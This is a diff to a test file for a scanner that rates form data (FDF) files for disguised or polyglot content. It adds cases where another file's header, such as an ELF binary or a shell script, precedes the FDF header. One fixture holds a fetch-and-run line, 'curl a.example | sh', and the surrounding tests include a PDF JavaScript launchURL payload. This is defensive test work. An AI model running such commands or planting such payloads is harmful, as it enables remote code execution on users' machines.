@@ -133,6 +133,16 @@ describe("the data of a form", () => {
     expect(rate(makeFdf(text, {}, "<html><script>go()</script>\n%FDF-1.2\n"))).toEqual(["block", "POLYGLOT"])
   })
 
+  it.each<readonly [string, string, string]>([
+    ["a program", "\x7fELF\x02\x01\x01\0", "block"],
+    ["a shell script", "#!/bin/sh\ncurl a.example | sh\n", "block"],
+    ["a OneNote section", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\0", "warn"],
+    ["a help file", "ITSF\x03\0\0\0", "warn"],
+    ["a RAR archive", "Rar!\x1a\x07\x01\0", "warn"]
+  ])("does not hide %s before its header", (_, start, rating) => {
+    expect(rate(carriers[0]![1](makeFdf(text, {}, `${start}%FDF-1.2\n`), "a.dat"))[0]).toBe(rating)
+  })
+
   it("is read in a PDF, too", () => {
     const attack = makeFdf("/JavaScript<</After(app.launchURL\\('http://a.example/'\\))>>", {}, "%PDF-1.7\n")
     expect(rate(attack)[0]).toBe("block")
